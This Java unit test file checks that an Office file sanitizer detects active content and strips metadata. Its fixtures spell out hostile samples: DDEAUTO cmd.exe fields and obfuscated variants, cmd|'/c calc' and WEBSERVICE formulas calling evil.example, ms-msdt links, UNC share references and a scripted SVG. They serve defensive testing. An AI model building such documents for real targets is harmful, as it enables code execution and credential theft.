package hmnet.formats.other;

import static hmnet.formats.other.Pieces.latin;
import static hmnet.formats.other.Pieces.relations;
import static hmnet.formats.other.Pieces.types;
import static hmnet.formats.other.Pieces.zip;
import static org.assertj.core.api.Assertions.assertThat;

import hmnet.formats.base.Note;
import hmnet.formats.base.Unreadable;
import hmnet.formats.base.archive.Archive;
import hmnet.formats.base.xml.XmlDocument;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// G3: an office file is what its list allows; what fetches or starts something is found however it is written.
class HostileOfficeTest {
    private static final String BEGIN = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    private static final String END = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    private static String outcome(Map<String, byte[]> members) {
        try {
            OtherFile.read(zip(members), "x.docx");
            return "shown";
        } catch (Unreadable bad) {
            return bad.note().code();
        }
    }

    private static Map<String, byte[]> words(String body) {
        var members = Pieces.word();
        members.put("word/document.xml", body(body).getBytes(StandardCharsets.UTF_8));
        return members;
    }

    private static String body(String body) {
        return "<?xml version=\"1.0\"?><w:document xmlns:w=\"urn:w\" xmlns:r=\"urn:r\" xmlns:v=\"urn:v\""
                + " xmlns:o=\"urn:o\" xmlns:a=\"urn:a\"><w:body>"
                + body + "</w:body></w:document>";
    }

    private static String run(String instruction) {
        return "<w:r><w:instrText>" + instruction + "</w:instrText></w:r>";
    }

    /// A relation of the document that leads out of the archive.
    private static Map<String, byte[]> leadingOut(String kind, String target, String mode) {
        var members = Pieces.word();
        members.put(
                "word/_rels/document.xml.rels",
                latin(
                        "<Relationships><Relationship Id=\"r1\" Type=\"urn:x/%s\" Target=\"%s\" TargetMode=\"%s\"/></Relationships>"
                                .formatted(kind, target, mode)));
        return members;
    }

    /// A part that the document leads to.
    private static Map<String, byte[]> with(String kind, String part, String type, byte[] content) {
        var members = Pieces.word();
        members.put(
                "[Content_Types].xml",
                types("/word/document.xml", "wordprocessingml.document.main+xml", "/word/" + part, type));
        members.put("word/_rels/document.xml.rels", relations(kind, part));
        members.put("word/" + part, content);
        return members;
    }

    private static Map<String, byte[]> drawing(byte[] content) {
        var members = Pieces.word();
        members.put("word/_rels/document.xml.rels", relations("image", "media/a.png"));
        members.put("word/media/a.png", content);
        return members;
    }

    private static Map<String, byte[]> table(String sheet) {
        var members = new LinkedHashMap<String, byte[]>();
        members.put(
                "[Content_Types].xml",
                types(
                        "/xl/workbook.xml",
                        "spreadsheetml.sheet.main+xml",
                        "/xl/sheet1.xml",
                        "spreadsheetml.worksheet+xml"));
        members.put("_rels/.rels", relations("officeDocument", "xl/workbook.xml"));
        members.put("xl/workbook.xml", latin("<workbook><sheets/></workbook>"));
        members.put("xl/_rels/workbook.xml.rels", relations("worksheet", "sheet1.xml"));
        members.put("xl/sheet1.xml", latin("<worksheet>" + sheet + "</worksheet>"));
        return members;
    }

    private static Map<String, byte[]> formula(String formula) {
        return table("<c><f>" + formula + "</f><v>1</v></c>");
    }

    /// What a part is called is its sender's choice.
    private static Map<String, byte[]> elsewhere(Map<String, byte[]> table) {
        var moved = new LinkedHashMap<String, byte[]>();
        table.forEach((name, content) -> moved.put(
                name.replace("xl/", "x/"),
                name.startsWith("xl/")
                        ? content
                        : latin(new String(content, StandardCharsets.ISO_8859_1).replace("xl/", "x/"))));
        return moved;
    }

    /// Something in the document that names an address which is given as a link.
    private static Map<String, byte[]> naming(String body) {
        var members = leadingOut("hyperlink", "https://evil.example/a", "External");
        members.put("word/document.xml", body(body).getBytes(StandardCharsets.UTF_8));
        return members;
    }

    private static Map<String, Map<String, byte[]>> acting() {
        var utf16 = Pieces.word();
        utf16.put(
                "word/document.xml",
                ("\uFEFF" + body("<w:fldSimple w:instr=\"DDEAUTO cmd\"/>")).getBytes(StandardCharsets.UTF_16BE));
        var files = new LinkedHashMap<String, Map<String, byte[]>>();
        files.put("DDE over runs", words(BEGIN + run("DDE") + run("AUTO c:\\\\cmd.exe") + END));
        files.put(
                "DDE letter by letter",
                words(BEGIN + run("D") + "<w:r><w:t>x</w:t></w:r>" + run("D") + run("E cmd") + END));
        files.put("DDE in lower case", words(BEGIN + run("ddeauto cmd") + END));
        files.put("DDE in one piece", words("<w:fldSimple w:instr=\" dde cmd\"/>"));
        files.put("DDE by another prefix", words("<z:fldSimple xmlns:z=\"urn:w\" z:instr=\"DDE cmd\"/>"));
        files.put("DDE made of another field", words(BEGIN + BEGIN + run("QUOTE 68 68 69") + END + run(" cmd") + END));
        files.put("DDE that is never closed", words(BEGIN + run("DDE cmd")));
        files.put("an instruction without a field", words(run("DDE cmd")));
        files.put("in UTF-16", utf16);
        files.put("a text of another file", words(BEGIN + run("includetext \"c:\\\\x\"") + END));
        files.put(
                "a picture of a share by a field",
                words(BEGIN + run("INCLUDEPICTURE \"\\\\\\\\evil\\\\a.png\"") + END));
        files.put("a link to a share by a field", words(BEGIN + run("HYPERLINK \"\\\\\\\\evil\\\\a\"") + END));
        files.put("a picture of a share", leadingOut("image", "\\\\evil\\a.png", "External"));
        files.put("a picture of a share, mode in another case", leadingOut("image", "file://evil/a.png", "EXTERNAL"));
        files.put("a picture of a share without a mode", leadingOut("image", "file://evil/a.png", ""));
        files.put("a picture drawn from a share", words("<v:imagedata src=\"\\\\evil\\a.png\"/>"));
        files.put(
                "another address behind a place in the document",
                words(BEGIN + run("HYPERLINK \\l \"b\" \"\\\\\\\\evil\\\\a\"") + END));
        files.put("a program's own address behind a place", words(BEGIN + run("HYPERLINK \\l b ms-msdt:/id x") + END));
        files.put(
                "another address by another field",
                words(BEGIN + run("HYPERLINK \\l b ") + BEGIN + run("QUOTE x") + END + END));
        files.put("a share in slashes", words(BEGIN + run("HYPERLINK \\l \"b\" \"//evil/a\"") + END));
        files.put("a file behind a place", words(BEGIN + run("HYPERLINK \\l b a.exe") + END));
        files.put("a file behind the web", words(BEGIN + run("HYPERLINK \"https://a\" \"a.exe\"") + END));
        files.put(
                "a place in a table of a share",
                table("<hyperlink ref=\"A1\" location=\"'[\\\\evil\\a.xlsx]S'!A1\"/>"));
        files.put("a picture drawn by its link", words("<v:imagedata o:href=\"https://evil.example/a.png\"/>"));
        files.put("a template by the address of a link", naming("<w:template r:id=\"r1\"/>"));
        files.put("a picture by the address of a link", naming("<a:blip r:link=\"r1\"/>"));
        files.put("a drawing that is a program", drawing(latin("MZ a program")));
        files.put("a type that only sounds like a drawing", with("image", "media/a.bin", "image/gif", latin("GIF89a")));
        files.put("a drawing that is a page", drawing(latin("<html><script>")));
        files.put("a frame", leadingOut("frame", "https://evil.example", "External"));
        files.put("a chunk of another format", with("aFChunk", "a.html", "x", latin("<html/>")));
        files.put("a chunk by its element", words("<w:altChunk r:id=\"r1\"/>"));
        files.put("a program within", with("oleObject", "embeddings/a.bin", "oleObject", latin("x")));
        files.put("an active control", with("control", "activeX/a.xml", "x", latin("<ax/>")));
        files.put(
                "a style sheet that is something else",
                with("styles", "styles.xml", "wordprocessingml.webSettings+xml", latin("<x/>")));
        files.put("a picture that is something else", with("image", "media/a.png", "x", Pieces.pdf("")));
        files.put("a relation nobody knows", with("unheard", "a.xml", "x", latin("<x/>")));
        files.put("another program by a formula", formula("cmd|'/c calc'!A0"));
        files.put("a service", formula("_xlfn.WEBSERVICE(\"https://evil.example\")"));
        files.put("a service in lower case", formula("1+ webservice (\"https://evil.example\")"));
        files.put("a picture of elsewhere", formula("_xlfn.IMAGE(\"https://evil.example\")"));
        files.put("a live source", formula("RTD(\"x\",,\"y\")"));
        files.put("a function of an add-in", formula("_xll.RUN()"));
        files.put("a function nobody knows yet", formula("_xlfn.TOMORROW(1)"));
        files.put("a link to a share by a formula", formula("HYPERLINK(\"\\\\evil\\a\")"));
        files.put("a link that is put together", formula("HYPERLINK(\"fi\"&amp;\"le:\"&amp;A1)"));
        files.put("a link that a cell names", formula("HYPERLINK(A1)"));
        files.put("a link that a cell names behind nothing", formula("HYPERLINK(\"\"&amp;A1,\"x\")"));
        files.put("a link that a cell names behind a place", formula("HYPERLINK(\"#\"&amp;A1,\"x\")"));
        files.put("a place in a table of elsewhere", formula("HYPERLINK(\"#'[c:\\x.xlsx]S'!A1\")"));
        files.put("a link that a function puts together", formula("HYPERLINK(CONCATENATE(\"https://a/\",A1))"));
        files.put("a service handed to a function", formula("_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)"));
        files.put("a link handed to a function", formula("_xlfn.MAP(A1:A2,_xleta.HYPERLINK)"));
        files.put("a table of the web", formula("'https://evil.example/[a.xlsx]S'!A1"));
        files.put("a link to another program", formula("HYPERLINK(\"ms-msdt:x\")"));
        files.put("a program by a macro's function", formula("EXEC(\"calc\")"));
        files.put("what a macro asks of a machine", formula("GET.WORKSPACE(1)"));
        files.put("a table in another folder", elsewhere(formula("WEBSERVICE(\"https://evil.example\")")));
        files.put("a formula in an attribute", table("<cacheField formula=\"WEBSERVICE(A1)\"/>"));
        files.put("a condition that fetches", table("<cfRule><formula>WEBSERVICE(A1)</formula></cfRule>"));
        files.put("a link of DDE", table("<ddeLink ddeService=\"cmd\"/>"));
        var connections = table("<x/>");
        connections.put("xl/_rels/workbook.xml.rels", relations("connections", "connections.xml"));
        connections.put("xl/connections.xml", latin("<connections/>"));
        files.put("connections", connections);
        var leading = table("<x/>");
        leading.put("xl/_rels/workbook.xml.rels", relations("externalLink", "l.xml"));
        files.put("links to other tables", leading);
        return files;
    }

    @Test
    void whatFetchesOrStartsSomethingIsFoundHoweverItIsWritten() {
        acting().forEach(
                        (name, members) -> assertThat(outcome(members)).as(name).isEqualTo("active-content"));
    }

    @Test
    void macrosAreFoundByRelationAndType() {
        assertThat(outcome(with("vbaProject", "a.bin", "x", latin("x")))).isEqualTo("macro");
        var typed = Pieces.word();
        typed.put("[Content_Types].xml", types("/word/document.xml", "ms-word.document.MacroEnabled.main+xml"));
        assertThat(outcome(typed)).isEqualTo("macro");
        assertThat(outcome(with("xlMacrosheet", "a.xml", "x", latin("<x/>")))).isEqualTo("macro");
    }

    @Test
    void whatOnlyShowsStays() {
        assertThat(outcome(words(BEGIN + run(" PAGE ")
                        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:t>1</w:t>" + END)))
                .isEqualTo("shown");
        assertThat(outcome(words(
                        BEGIN + run("TOC \\o") + END + BEGIN + run("HYPERLINK \"https://hospital.example\"") + END)))
                .isEqualTo("shown");
        assertThat(outcome(formula("SUM(A1:A9)+_xlfn.XLOOKUP(1,A:A,B:B)&amp;\"a|b\"")))
                .isEqualTo("shown");
        assertThat(outcome(leadingOut("hyperlink", "https://hospital.example/", "External")))
                .isEqualTo("shown");
        assertThat(outcome(formula("_xlfn.MAP(A1:A2,_xleta.SUM)"))).isEqualTo("shown");
    }

    @Test
    void aLinkMayLeadToTheWebAndWithinTheFile() {
        for (var link : List.of(
                "HYPERLINK \\l \"_Toc1\"",
                "HYPERLINK \"https://hospital.example/\" \\l \"a b\" \\o \"Tip\" \\t \"_blank\" \\* MERGEFORMAT",
                "HYPERLINK \"mailto:a@hospital.example?subject=x y\"")) {
            assertThat(outcome(words(BEGIN + run(link) + END))).as(link).isEqualTo("shown");
        }
        assertThat(outcome(words(BEGIN
                        + run("HYPERLINK \"https://hospital.example/")
                        + BEGIN
                        + run("MERGEFIELD a")
                        + END
                        + run("\"")
                        + END)))
                .isEqualTo("shown");
        assertThat(outcome(table("<hyperlink ref=\"A1\" location=\"'表 1'!A1:B2\"/>")))
                .isEqualTo("shown");
        for (var link : List.of(
                "HYPERLINK(\"https://hospital.example/?id=\"&amp;A1,\"x\")",
                "HYPERLINK(\"#'表 1'!A1\",\"x\")",
                "HYPERLINK(\"\",\"x\")",
                "IF(A1=\"\",\"\",HYPERLINK( \"tel:1\" ))")) {
            assertThat(outcome(formula(link))).as(link).isEqualTo("shown");
        }
    }

    @Test
    void aTableOfContentsStays() {
        var separate = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>";
        var line = BEGIN + run("HYPERLINK \\l \"_Toc1\"") + separate + "<w:t>1. 経過</w:t>" + BEGIN
                + run("PAGEREF _Toc1 \\h") + separate + "<w:t>2</w:t>" + END + END;
        assertThat(outcome(words(BEGIN + run("TOC \\o \"1-3\"") + separate + line + line + END)))
                .isEqualTo("shown");
    }

    /// A program that opens it needs the names of attributes as they were, with what stands in front of the colon.
    @Test
    void everyPartIsWrittenWithTheNamesItCameWith() throws Unreadable {
        var body =
                "<w:p w:rsidR=\"1\"><w:hyperlink r:id=\"r1\" w:history=\"1\"><w:t xml:space=\"preserve\"> 語</w:t></w:hyperlink></w:p>";
        var members = leadingOut("hyperlink", "https://hospital.example/", "External");
        members.put("word/document.xml", body(body).getBytes(StandardCharsets.UTF_8));
        for (var member : Archive.members(OtherFile.read(zip(members), "x.docx").content(), name -> true)) {
            var root = XmlDocument.read(member.content()).root();
            if (member.name().equals("word/document.xml")) {
                assertThat(root.namespace()).isEqualTo("urn:w");
                assertThat(new String(member.content(), StandardCharsets.UTF_8)).contains(body);
            }
        }
    }

    /// A letter that was begun from a template, or written to many, is an honest one.
    @Test
    void aTemplateAndAddressesOfElsewhereAreLeftOutAndThatIsTold() throws Unreadable {
        var members = with(
                "settings",
                "settings.xml",
                "wordprocessingml.settings+xml",
                latin(
                        "<w:settings xmlns:w=\"urn:w\" xmlns:r=\"urn:r\"><w:attachedTemplate r:id=\"r1\"/>"
                                + "<w:mailMerge><w:query w:val=\"SELECT evil\"/></w:mailMerge><w:zoom w:percent=\"100\"/></w:settings>"));
        members.put(
                "word/_rels/settings.xml.rels",
                latin(
                        "<Relationships><Relationship Id=\"r1\" Type=\"urn:x/attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>"
                                + "<Relationship Id=\"r2\" Type=\"urn:x/mailMergeSource\" Target=\"file:///evil.xlsx\" TargetMode=\"External\"/></Relationships>"));
        var file = OtherFile.read(zip(members), "x.docx");
        assertThat(all(file.content())).contains("w:zoom").doesNotContain("evil", "attachedTemplate", "mailMerge");
        assertThat(file.notes()).extracting(Note::code).contains("links-removed");
    }

    @Test
    void aChartShowsWithoutTheTableItWasDrawnFrom() throws Unreadable {
        var members = with(
                "chart",
                "charts/chart1.xml",
                "drawingml.chart+xml",
                latin(
                        "<c:chartSpace xmlns:c=\"urn:c\" xmlns:r=\"urn:r\"><c:v>7.4</c:v><c:externalData r:id=\"r1\"/></c:chartSpace>"));
        members.put("word/charts/_rels/chart1.xml.rels", relations("package", "../embeddings/Book1.xlsx"));
        members.put("word/embeddings/Book1.xlsx", zip(Pieces.word()));
        assertThat(all(OtherFile.read(zip(members), "x.docx").content()))
                .contains("7.4")
                .doesNotContain("embeddings", "externalData");
        members.put("word/_rels/document.xml.rels", relations("image", "embeddings/Book1.xlsx"));
        assertThat(outcome(members)).as("as anything else").isEqualTo("active-content");
    }

    @Test
    void ofADrawingInTwoKindsThePlainOneStays() throws Unreadable {
        var members = words("<a:blip r:embed=\"r1\"><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\">"
                + "<asvg:svgBlip xmlns:asvg=\"urn:s\" r:embed=\"r2\"/></a:ext></a:extLst></a:blip>");
        members.put(
                "[Content_Types].xml",
                latin(new String(
                                Pieces.types("/word/document.xml", "wordprocessingml.document.main+xml"),
                                StandardCharsets.ISO_8859_1)
                        .replace("<Override", "<Default Extension=\"svg\" ContentType=\"image/svg+xml\"/><Override")));
        members.put("word/_rels/document.xml.rels", relations("image", "media/a.png", "image", "media/a.svg"));
        members.put("word/media/a.png", Pieces.picture());
        members.put("word/media/a.svg", latin("<svg><script>alert(1)</script></svg>"));
        assertThat(all(OtherFile.read(zip(members), "x.docx").content()))
                .contains("a:blip", "a.png")
                .doesNotContain("svg", "script");
    }

    @Test
    void aLinkToAShareLeadsNowhereAndThatIsTold() throws Unreadable {
        var file = OtherFile.read(zip(leadingOut("hyperlink", "file://evil/share", "External")), "x.docx");
        assertThat(all(file.content())).doesNotContain("evil").contains("about:blank");
        assertThat(file.notes()).extracting(Note::code).contains("links-removed");
    }

    @Test
    void whoWroteItIsGoneWhereverItStands() throws Unreadable {
        var members = words("<w:ins w:author=\"Kakuu Taro\" w:initials=\"KT\"><w:t>words</w:t></w:ins>"
                + "<w:pic descr=\"C:\\Users\\Kakuu\\a.jpg\"/>");
        members.put(
                "[Content_Types].xml",
                types(
                        "/word/document.xml",
                        "wordprocessingml.document.main+xml",
                        "/word/comments.xml",
                        "wordprocessingml.comments+xml",
                        "/word/people.xml",
                        "x"));
        members.put(
                "word/_rels/document.xml.rels",
                relations("image", "media/a.jpg", "comments", "comments.xml", "people", "people.xml"));
        members.put("word/media/a.jpg", Pieces.photograph());
        members.put(
                "word/comments.xml",
                latin(
                        "<w:comments xmlns:w=\"urn:w\"><w:comment w:author=\"Kakuu\"><w:t>ok</w:t></w:comment></w:comments>"));
        members.put("word/people.xml", latin("<people><person>Kakuu</person></people>"));
        members.put(
                "_rels/.rels", relations("officeDocument", "word/document.xml", "thumbnail", "docProps/thumbnail.jpg"));
        members.put("docProps/thumbnail.jpg", Pieces.photograph());
        members.put("word/nobody-leads-here.xml", latin("<x>Kakuu</x>"));
        var file = OtherFile.read(zip(members), "x.docx");
        assertThat(all(file.content())).contains("words").doesNotContain("Kakuu", "KT", "GPS", "thumbnail", "people");
        assertThat(file.notes()).extracting(Note::code).contains("metadata-removed", "metadata-kept");
        assertThat(OtherFile.read(file.content(), "x.docx").content()).isEqualTo(file.content());
    }

    @Test
    void nothingIsSaidToBeRemovedWhereNothingWas() throws Unreadable {
        var members = Pieces.word();
        members.remove("docProps/core.xml");
        members.put("_rels/.rels", relations("officeDocument", "word/document.xml"));
        assertThat(OtherFile.read(zip(members), "x.docx").notes())
                .extracting(Note::code)
                .doesNotContain("metadata-removed");
    }

    private static String all(byte[] archive) throws Unreadable {
        var text = new StringBuilder();
        for (var member : Archive.members(archive, name -> true)) {
            text.append(member.name()).append(new String(member.content(), StandardCharsets.ISO_8859_1));
        }
        return text.toString();
    }
}
